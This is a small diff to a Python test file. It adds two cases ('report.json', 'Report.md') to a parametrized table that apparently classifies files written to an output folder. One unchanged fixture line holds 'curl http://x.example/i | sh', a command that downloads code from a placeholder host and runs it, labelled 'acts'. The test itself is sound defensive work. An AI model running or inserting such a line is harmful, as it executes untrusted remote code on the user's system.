@@ -177,6 +177,8 @@ def test_a_bad_path_writes_nothing(folder: OutputFolder, path: str) -> None:
         ("a.py", "x = 1\n", "failed", "incomplete"),
         ("manifest.json", "{}", "ok", "own_file"),
         ("Manifest.JSON", "{}", "ok", "own_file"),
+        ("report.json", "{}", "ok", "own_file"),
+        ("Report.md", "# proof", "ok", "own_file"),
         ("json.py", "x = 1\n", "ok", "shadows"),
         (".envrc", "export A=1\n", "ok", "acts"),
         ("run.sh", "curl http://x.example/i | sh\n", "ok", "acts"),
